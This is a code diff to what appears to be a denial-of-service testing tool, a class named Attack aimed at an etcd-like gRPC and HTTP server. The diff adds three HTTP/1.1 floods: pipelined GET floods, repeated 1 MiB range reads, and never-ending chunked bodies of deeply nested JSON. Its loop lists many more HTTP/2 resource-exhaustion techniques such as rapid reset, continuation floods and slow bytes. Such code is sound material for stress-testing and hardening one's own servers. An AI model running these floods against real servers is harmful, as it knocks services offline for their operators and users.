@@ -17,6 +17,7 @@ import time
 
 import grpc
 
+import channels
 import tls_raw
 from h2raw import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, HELLO, PING, PRIORITIZED, PRIORITY, RST, SETTINGS, WINDOW,
                    call, connect, frame, headers, literal, message, settings, tls_context)
@@ -31,8 +32,8 @@ WATCHES = 200000
 def channel_to(host, port, tls=None):
     opts = [("grpc.max_receive_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]
     if tls:
-        return grpc.secure_channel(f"{host}:{port}", grpc.ssl_channel_credentials(open(tls[0], "rb").read()), options=opts)
-    return grpc.insecure_channel(f"{host}:{port}", options=opts)
+        return channels.to(f"{host}:{port}", opts, grpc.ssl_channel_credentials(open(tls[0], "rb").read()))
+    return channels.to(f"{host}:{port}", opts)
 
 
 def received(s):
@@ -405,6 +406,22 @@ class Attack:
                     pass
             time.sleep(1)
 
+    # -- by HTTP/1.1 --
+
+    def http_flood(self):
+        """Requests one behind the other, without a look at an answer."""
+        self.flood(None, lambda st: b"GET /version HTTP/1.1\r\nHost: x\r\n\r\n" * 200, hello=b"", preface=b"")
+
+    def http_reads(self):
+        """Reads of 1 MiB as JSON, pipelined, on connections that read them."""
+        one = b'POST /v3/kv/range HTTP/1.1\r\nHost: x\r\nContent-Length: 41\r\n\r\n{"key":"YmlnLw==","range_end":"YmlnMA=="}'
+        self.flood(None, lambda st: one * 10, hello=b"", preface=b"")
+
+    def http_bodies(self):
+        """JSON that nests, in bodies that never end; each is refused, and another one comes."""
+        self.flood(lambda s: b"POST /v3/kv/txn HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n8000\r\n",
+                   lambda st: b'{"success":[{"request_txn":' * 1000, n=8, hello=b"", preface=b"")
+
     # -- the rest --
 
     def reads(self):
@@ -473,7 +490,7 @@ class Attack:
 COST_LOOP = ["empty_data", "pings", "settings", "window_updates", "priorities", "unknown_frames", "frames_of_the_past", "settings_of_all_streams", "goodbyes",
              "tall_trees", "rapid_reset", "continuations", "header_references",
              "small_calls", "renewals", "garbage", "deep_messages", "costly_txns", "costly_reads", "hashes",
-             "lease_lists", "lock_crowds"]
+             "lease_lists", "lock_crowds", "http_flood", "http_reads", "http_bodies"]
 COST_MEMORY = ["unread_ranges", "zero_windows", "one_byte_windows", "large_answers_to_writes", "half_messages", "half_watches",
                "refused_watches", "watches", "old_values", "unread_by_many", "unread_txns_of_many"]
 COST_CONNECTIONS = ["idle", "come_and_go", "slow_bytes"]
